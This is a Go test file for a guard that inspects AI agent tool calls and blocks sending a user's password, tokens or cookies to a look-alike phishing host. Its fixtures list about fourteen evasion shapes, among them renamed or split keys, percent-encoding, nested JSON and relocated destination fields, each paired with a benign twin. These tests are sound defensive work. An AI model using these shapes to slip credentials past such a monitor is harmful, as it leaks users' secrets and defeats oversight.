package guard_test

import (
	"strings"
	"testing"

	"github.com/actionguard/actionguard/guard"
)

// An agent that wants a credential to reach a look-alike walks around the
// key it sits under, the shape it is sent in, or the key that names the
// destination. Each attempt below is blocked with the one warning; each
// has a benign twin (the same request to the real service, or with no
// credential) that is not blocked as phishing.
func TestCredentialEvasions(t *testing.T) {
	g := guard.New()
	msgs := []string{"Log into Gmail, password is MyPass123"}
	for _, c := range []struct {
		name  string
		input map[string]any
	}{
		{"key split by an underscore", map[string]any{"url": "https://HOST/l", "body": map[string]any{"pass_word": "MyPass123"}}},
		{"key with a number", map[string]any{"url": "https://HOST/l", "body": map[string]any{"password2": "MyPass123"}}},
		{"key in upper case with dashes", map[string]any{"url": "https://HOST/l", "headers": map[string]any{"X-USER-PASSWORD": "MyPass123"}}},
		{"neutral key, the password the user stated", map[string]any{"url": "https://HOST/l", "body": map[string]any{"q": "MyPass123"}}},
		{"neutral key inside a sentence", map[string]any{"url": "https://HOST/l", "body": map[string]any{"note": "use MyPass123 to sign in"}}},
		{"array of strings", map[string]any{"url": "https://HOST/l", "args": []any{"me", "MyPass123"}}},
		{"form in a JSON string in an object", map[string]any{"url": "https://HOST/l", "body": map[string]any{"raw": `{"form": "user=me&pwd=MyPass123"}`}}},
		{"percent-encoded form", map[string]any{"url": "https://HOST/l", "body": "us%65r=me&pass%77ord=MyPass123"}},
		{"token in a query", map[string]any{"url": "https://HOST/api?access_token=ya29.A0ARrdaM-abcdefghijklmnop"}},
		{"destination under another key", map[string]any{"base": "https://HOST", "path": "/login", "body": map[string]any{"password": "MyPass123"}}},
		{"destination as host", map[string]any{"host": "HOST", "body": "password=MyPass123"}},
		{"destination as endpoint", map[string]any{"endpoint": "https://HOST/login", "json": map[string]any{"credentials": map[string]any{"secret": "MyPass123"}}}},
		{"cookie header", map[string]any{"url": "https://HOST/inbox", "headers": map[string]any{"Cookie": "SID=31d4d96e407aad42; lang=en"}}},
		{"bearer header", map[string]any{"url": "https://HOST/inbox", "headers": map[string]any{"authorization": "Bearer ya29.A0ARrdaM-abcdefghijklmnop"}}},
	} {
		for _, tool := range []string{"http_request", "mcp__fetch__post"} {
			in := replaceHost(c.input, "gmai1.com")
			d := check(t, g, guard.Action{Tool: tool, Input: in, Context: guard.Context{UserMessages: msgs}})
			if d.Verdict != guard.Block || d.Notice != lookAlikeWarning {
				t.Errorf("%s (%s): %s %v notice %q (%s)", c.name, tool, d.Verdict, ruleIDs(d), d.Notice, d.Reason)
			}
			twin := replaceHost(c.input, "accounts.google.com")
			d = check(t, g, guard.Action{Tool: tool, Input: twin, Context: guard.Context{UserMessages: msgs}})
			if hasRule(d, "privacy.send.phishing") {
				t.Errorf("%s (%s), the real host: phishing (%s)", c.name, tool, d.Reason)
			}
		}
	}
}

// TestNotCredentials: keys about credentials, placeholders and examples
// are not credentials: the same requests to an unknown host are not
// blocked as phishing or as a cancelled credential.
func TestNotCredentials(t *testing.T) {
	g := guard.New()
	for _, in := range []map[string]any{
		{"url": "https://gmai1.com/x", "body": map[string]any{"password_min_length": 12, "show_password": true, "password_hint": "your pet"}},
		{"url": "https://gmai1.com/x", "body": map[string]any{"max_tokens": 256, "token_type": "bearer", "csrf_token": "a8f9e0c1d2b3a4f5"}},
		{"url": "https://gmai1.com/x", "body": map[string]any{"password": "${PASSWORD}", "api_key": "<your-api-key>", "token": "****"}},
		{"url": "https://gmai1.com/x", "body": "user=username&password=password"},
		{"url": "https://gmai1.com/x", "headers": map[string]any{"Authorization": "Bearer $TOKEN"}},
		{"url": "https://gmai1.com/x", "body": map[string]any{"username": "me", "remember_me": "yes"}},
	} {
		d := check(t, g, guard.Action{Tool: "http_request", Input: in, Context: guard.Context{UserMessages: []string{"check the settings page"}}})
		for _, f := range d.Findings {
			if f.Rule == "privacy.send.phishing" || f.Rule == "privacy.send.cancelled" {
				t.Errorf("%v: %s (%s)", in, f.Rule, d.Reason)
			}
		}
	}
}

func replaceHost(v any, host string) map[string]any {
	var walk func(v any) any
	walk = func(v any) any {
		switch x := v.(type) {
		case map[string]any:
			m := map[string]any{}
			for k, y := range x {
				m[k] = walk(y)
			}
			return m
		case []any:
			s := make([]any, len(x))
			for i, y := range x {
				s[i] = walk(y)
			}
			return s
		case string:
			return strings.ReplaceAll(x, "HOST", host)
		}
		return v
	}
	return walk(v).(map[string]any)
}

// TestProseLikeHeaders: a message whose lines look like headers is prose:
// "Token: see the docs" is not a token, and the e-mail the user asked for
// is not cancelled; a real header block under "headers" is read by key.
func TestProseLikeHeaders(t *testing.T) {
	g := guard.New()
	d := check(t, g, guard.Action{Tool: "send_email", Input: map[string]any{"to": "bob@example.com", "subject": "Setup",
		"body": "Token: see the wiki page on access\nPassword reset: ask IT\nNext: the demo"},
		Context: guard.Context{UserMessages: []string{"Email bob@example.com the setup notes"}}})
	if d.Verdict == guard.Block {
		t.Errorf("prose blocked: %v (%s)", ruleIDs(d), d.Reason)
	}
	d = check(t, g, guard.Action{Tool: "http_request", Input: map[string]any{"url": "https://gmai1.com/x", "headers": "Accept: */*\nX-Auth-Token: 8f14e45fceea167a"},
		Context: guard.Context{UserMessages: []string{"Log into Gmail"}}})
	if d.Verdict != guard.Block || d.Notice != lookAlikeWarning {
		t.Errorf("header block: %s %v (%s)", d.Verdict, ruleIDs(d), d.Reason)
	}
}
